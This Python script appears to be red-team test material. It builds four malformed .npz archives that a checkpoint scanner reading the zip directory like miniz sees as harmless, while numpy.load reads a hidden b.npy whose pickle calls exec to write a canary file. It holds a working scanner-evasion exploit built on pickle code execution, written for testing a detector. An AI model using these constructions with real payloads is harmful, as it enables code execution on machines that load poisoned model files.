"""numpy.load reads an .npz with Python's zipfile, whose way to the central directory differs from
miniz's (torch's reader, which ckpt follows). Three archives where miniz lists only a harmless
a.npy and zipfile lists b.npy, an object array whose pickle runs builtins.exec (writes a canary
file <canary>_<name>) when numpy.load(..., allow_pickle=True)["b"] reads it:
  count.npz     the end record counts one entry, the directory's size holds two: miniz reads as
                many entries as the count says, zipfile as many as the size holds;
  concat.npz    the end record understates the directory's offset: miniz reads the directory
                there, zipfile the one that ends at the end record, every member offset shifted
                by the difference (its support for archives after a prefix);
  zip64loc.npz  two zip64 end records: miniz reads the one the locator points at, zipfile the
                one just before the locator.
  emptyhead.npz an empty archive's end record, then a whole .npz (deflated, its offsets from
                its own start): numpy.load takes any file that starts with either zip signature
                for an .npz, and zipfile finds the last end record (shifting offsets past the
                prefix); ckpt called the file "an empty zip archive", not a checkpoint, and
                passed over it; read as a zip, miniz refuses its directory (CKPT006 only).
ckpt read miniz's directory only and reported nothing (exit 0)."""
import io
import struct
import sys
import zipfile
import zlib

import numpy as np

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/npz_directory"


class Payload:
    def __init__(self, tag):
        self.tag = tag

    def __reduce__(self):
        return (exec, (f"open({canary + '_' + self.tag!r}, 'w').write('ran')",))


def npy(array, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def local(name, data):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data),
                       len(data), len(data), len(name), 0) + name + data


def central(name, data, offset):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21,
                       zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0,
                       offset) + name


def end(count, size, offset):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, offset, 0)


def zip64_end(count, size, offset):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, offset)


benign = npy(np.arange(3))
for tag in ("count", "concat", "zip64loc"):
    hostile = npy(np.array([Payload(tag)], dtype=object), True)
    a, b = local(b"a.npy", benign), local(b"b.npy", hostile)
    cd_a, cd_b = central(b"a.npy", benign, 0), central(b"b.npy", hostile, len(a))
    if tag == "count":
        out = a + b + cd_a + cd_b + end(1, len(cd_a + cd_b), len(a + b))
    elif tag == "concat":
        shift = len(cd_a)  # zipfile adds it to every offset
        out = (a + b + cd_a + central(b"b.npy", hostile, len(a) - shift)
               + end(1, len(cd_a), len(a + b)))
    else:
        out = a + b + cd_a
        record_a = len(out)
        out += zip64_end(1, len(cd_a), len(a + b)) + cd_b
        out += zip64_end(1, len(cd_b), len(out) - len(cd_b))
        out += struct.pack("<IIQI", 0x07064B50, 0, record_a, 1)
        out += end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    open(f"{tag}.npz", "wb").write(out)
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("b.npy", npy(np.array([Payload("emptyhead")], dtype=object), True))
open("emptyhead.npz", "wb").write(end(0, 0, 0) + inner.getvalue())
print("wrote count.npz concat.npz zip64loc.npz emptyhead.npz")
